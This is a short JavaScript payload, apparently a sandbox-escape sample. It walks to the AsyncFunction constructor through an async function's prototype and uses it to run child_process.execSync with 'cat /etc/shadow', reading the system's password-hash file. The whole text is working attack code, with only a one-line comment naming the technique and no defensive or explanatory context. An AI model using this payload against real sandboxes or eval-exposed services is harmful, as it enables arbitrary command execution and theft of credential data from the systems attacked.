// class-walk: the AsyncFunction constructor from an async function's prototype
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
new AsyncFunction('r', 'return r("child_process").execSync("cat /etc/shadow")')(require);
